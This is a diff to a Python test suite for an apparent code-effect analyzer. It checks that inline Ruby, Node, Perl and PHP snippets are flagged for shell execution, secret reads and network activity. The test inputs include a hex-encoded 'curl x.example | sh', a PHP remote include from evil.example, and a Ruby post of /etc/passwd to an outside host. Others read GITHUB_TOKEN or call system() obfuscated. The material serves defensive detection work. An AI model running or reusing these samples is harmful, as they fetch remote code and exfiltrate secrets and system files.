@@ -408,7 +408,7 @@ def test_php_processes_and_env() -> None:
         ("php", "call_user_func('system', 'id');"),
         ("php", "call_user_func_array('system', array('id'));"),
         ("perl", "$f = 'system'; &$f('id');"),
-        ("ruby", "eval(\"sys\" + \"tem 'id'\")"),
+        ("ruby", 'eval("sys" + "tem \'id\'")'),
     ],
 )
 def test_indirect_calls_are_resolved(language: str, code: str) -> None:
@@ -430,3 +430,64 @@ def test_perl_pack_hex_command() -> None:
 def test_escaped_string_literals_are_decoded() -> None:
     code = 'require("child_process").execSync("\\x63\\x75\\x72\\x6c x.example | sh")'
     assert analyze_inline("node", code) == Effects(shell_code=("curl x.example | sh",))
+
+
+# -- code inside interpolated strings runs too ----------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("language", "code"),
+    [
+        ("ruby", "puts \"x #{system('id')}\""),
+        ("node", "console.log(`${require('child_process').execSync('id')}`)"),
+        ("perl", "print \"@{[ system('id') ]}\""),
+    ],
+)
+def test_interpolated_code_is_scanned(language: str, code: str) -> None:
+    assert analyze_inline(language, code) == Effects(shell_code=("id",))
+
+
+@pytest.mark.parametrize(
+    ("language", "code"),
+    [
+        ("ruby", "puts \"#{ENV['GITHUB_TOKEN']}\""),
+        ("node", "console.log(`${process.env.GITHUB_TOKEN}`)"),
+        ("perl", 'print "$ENV{GITHUB_TOKEN}\\n"'),
+        ("php", "echo \"{$_ENV['GITHUB_TOKEN']}\";"),
+    ],
+)
+def test_interpolated_secret_env_is_read(language: str, code: str) -> None:
+    assert analyze_inline(language, code) == Effects(markers=(("env.read", "GITHUB_TOKEN"),))
+
+
+@pytest.mark.parametrize(
+    ("language", "code"),
+    [("ruby", 'puts "hi #{name}"'), ("perl", 'print "hello $name\\n"'), ("node", "`${a}`")],
+)
+def test_plain_interpolation_is_benign(language: str, code: str) -> None:
+    assert analyze_inline(language, code) == Effects()
+
+
+def test_perl_qw_list_is_argv() -> None:
+    assert analyze_inline("perl", "system qw(rm -rf /tmp/x)") == Effects(
+        nested=(("rm", "-rf", "/tmp/x"),)
+    )
+
+
+def test_php_remote_include_is_fetch_and_dynamic() -> None:
+    assert analyze_inline("php", "include('http://evil.example/x.php');") == Effects(
+        net=(NetRef(FETCH, "http://evil.example/x.php"),),
+        markers=(("inline.dynamic-exec", "include"),),
+    )
+
+
+def test_ruby_net_http_start_direction_follows_the_verb() -> None:
+    code = (
+        "require 'net/http'; Net::HTTP.start('h.example', 443) "
+        "{ |h| h.post('/', File.read('/etc/passwd')) }"
+    )
+    assert analyze_inline("ruby", code) == Effects(
+        files=(FileRef(R, "/etc/passwd"),), net=(NetRef(UPLOAD, "h.example:443", 443),)
+    )
+    code = "Net::HTTP.start('rubygems.org', 443) { |h| puts h.get('/').body }"
+    assert analyze_inline("ruby", code) == Effects(net=(NetRef(FETCH, "rubygems.org:443", 443),))
